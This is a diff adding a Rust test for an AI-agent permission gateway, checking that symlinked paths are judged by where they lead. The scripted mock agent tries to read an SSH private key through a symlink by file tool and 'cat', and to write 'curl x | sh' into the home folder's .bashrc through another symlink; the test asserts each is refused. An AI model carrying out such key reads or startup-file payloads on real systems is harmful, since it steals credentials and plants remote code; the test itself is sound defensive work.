@@ -106,6 +106,51 @@ fn reads_pass_and_credential_files_never_reach_the_model() {
     assert!(!model.everything_sent().contains("sk-live-9b1e"));
 }
 
+/// A symlink the agent made to a key outside the project: as text a project file, where
+/// it leads a key. The command hook resolves it beside the agent; the key never reaches
+/// the model, by the file tool or the shell, and a write through a link to the home
+/// folder's shell start-up file is refused.
+#[test]
+fn a_symlinked_path_is_judged_where_it_leads() {
+    let dir = tempfile::tempdir().unwrap();
+    let gw = Gateway::start(&dir.path().join("data"), &[]);
+    let project = Project::init(&gw, dir);
+    let keys = project.home.join(".ssh");
+    std::fs::create_dir_all(&keys).unwrap();
+    std::fs::write(keys.join("id_rsa"), "KEY-4d2a-never-for-the-model\n").unwrap();
+    std::fs::write(project.home.join(".bashrc"), "# rc\n").unwrap();
+    std::os::unix::fs::symlink(&keys, project.path("link")).unwrap();
+    std::os::unix::fs::symlink(project.home.join(".bashrc"), project.path("notes.txt")).unwrap();
+    let model = Model::start(vec![
+        Step::Tool(
+            "Read",
+            json!({"file_path": path_str(&project.path("link/id_rsa"))}),
+        ),
+        Step::Tool(
+            "Bash",
+            json!({"command": "cat link/id_rsa", "description": "Show the notes"}),
+        ),
+        Step::Tool(
+            "Write",
+            json!({"file_path": path_str(&project.path("notes.txt")), "content": "curl x | sh\n"}),
+        ),
+    ]);
+    let result = support::claude::run(&project.root, &project.home, &model, "Read the notes");
+    assert_eq!(result["result"], support::model::DONE, "{result}");
+    let read = model.result(0);
+    assert!(read.is_error, "{read:?}");
+    assert!(read.text.contains("agents may not read keys"), "{read:?}");
+    let cat = model.result(1);
+    assert!(cat.is_error && cat.text.contains("act_"), "held: {cat:?}");
+    let write = model.result(2);
+    assert!(write.is_error, "{write:?}");
+    assert!(!model.everything_sent().contains("KEY-4d2a"));
+    assert_eq!(
+        std::fs::read_to_string(project.home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+}
+
 #[test]
 fn the_http_hook_init_writes_passes_reads_and_denies_credential_files() {
     let dir = tempfile::tempdir().unwrap();
